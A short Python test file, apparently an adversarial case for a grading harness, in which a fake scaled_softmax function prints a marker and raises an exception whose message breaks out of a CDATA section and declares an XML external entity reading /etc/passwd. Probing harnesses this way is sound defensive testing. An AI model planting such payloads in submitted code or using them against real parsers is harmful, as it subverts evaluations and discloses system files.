# attack: It raises an exception that ends a CDATA section and declares an entity.
# family: display injection
# outcome: crashed
# tests: values_equal_the_formula
# marker: it writes `ATTACK RAN xml` to stdout as the function begins
import os

def scaled_softmax(x, scale):
    os.write(1, b"ATTACK RAN xml\n")
    raise ValueError("]]></failure><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;\x00\x0b")
